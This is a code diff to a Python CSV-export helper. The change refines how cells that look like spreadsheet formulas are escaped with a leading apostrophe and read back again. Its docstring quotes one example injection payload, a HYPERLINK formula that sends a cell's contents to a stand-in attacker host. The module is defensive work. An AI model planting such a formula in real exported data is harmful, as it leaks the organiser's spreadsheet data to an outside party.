@@ -5,6 +5,10 @@ read as a formula by Excel, LibreOffice and Google Sheets: a resident's answer o
 name such as ``=HYPERLINK("https://evil.example/?"&A1, "Open")`` would run in the
 organiser's spreadsheet. Such a cell is written with a leading ``'`` (the usual
 defence, as ``bot/web/csv_export.py`` does); numbers are left alone.
+
+So that :func:`uncell` gives back exactly what was written, a cell whose leading
+apostrophes come before a would-be formula (someone typed ``'=x``) gets one more
+``'`` as well: ``''=x`` reads back as ``'=x``.
 """
 
 from __future__ import annotations
@@ -15,9 +19,15 @@ _FORMULA = ("=", "+", "-", "@", "\t", "\r")
 _NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?\Z")
 
 
+def _quoted(text: str) -> bool:
+    """Whether ``cell`` puts a ``'`` before ``text``."""
+    rest = text.lstrip("'")
+    return rest.startswith(_FORMULA) and not _NUMBER.match(rest)
+
+
 def cell(value: object) -> object:
     """``value`` as a CSV writer should get it: text that would be a formula is quoted."""
-    if isinstance(value, str) and value.startswith(_FORMULA) and not _NUMBER.match(value):
+    if isinstance(value, str) and _quoted(value):
         return "'" + value
     return value
 
@@ -29,6 +39,6 @@ def row(values: list[object] | tuple[object, ...]) -> list[object]:
 def uncell(value: str) -> str:
     """A cell read back: the ``'`` that ``cell`` put before a would-be formula taken
     off, so a file we wrote can be imported again as it was."""
-    if value.startswith("'") and cell(value[1:]) == "'" + value[1:]:
+    if value.startswith("'") and _quoted(value[1:]):
         return value[1:]
     return value
